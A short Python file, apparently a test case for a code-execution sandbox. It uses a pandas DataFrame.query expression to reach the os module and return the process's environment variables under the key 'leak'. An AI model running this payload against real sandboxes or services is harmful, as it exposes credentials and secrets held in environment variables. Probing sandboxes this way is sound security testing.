# route: DataFrame.query reads the builtins of pandas
import pandas as pd


def execute(testData):
    df = pd.DataFrame({"a": ["x"]})
    return {"leak": str(df.query("@pd.io.common.os.environ", local_dict={"pd": pd}))}
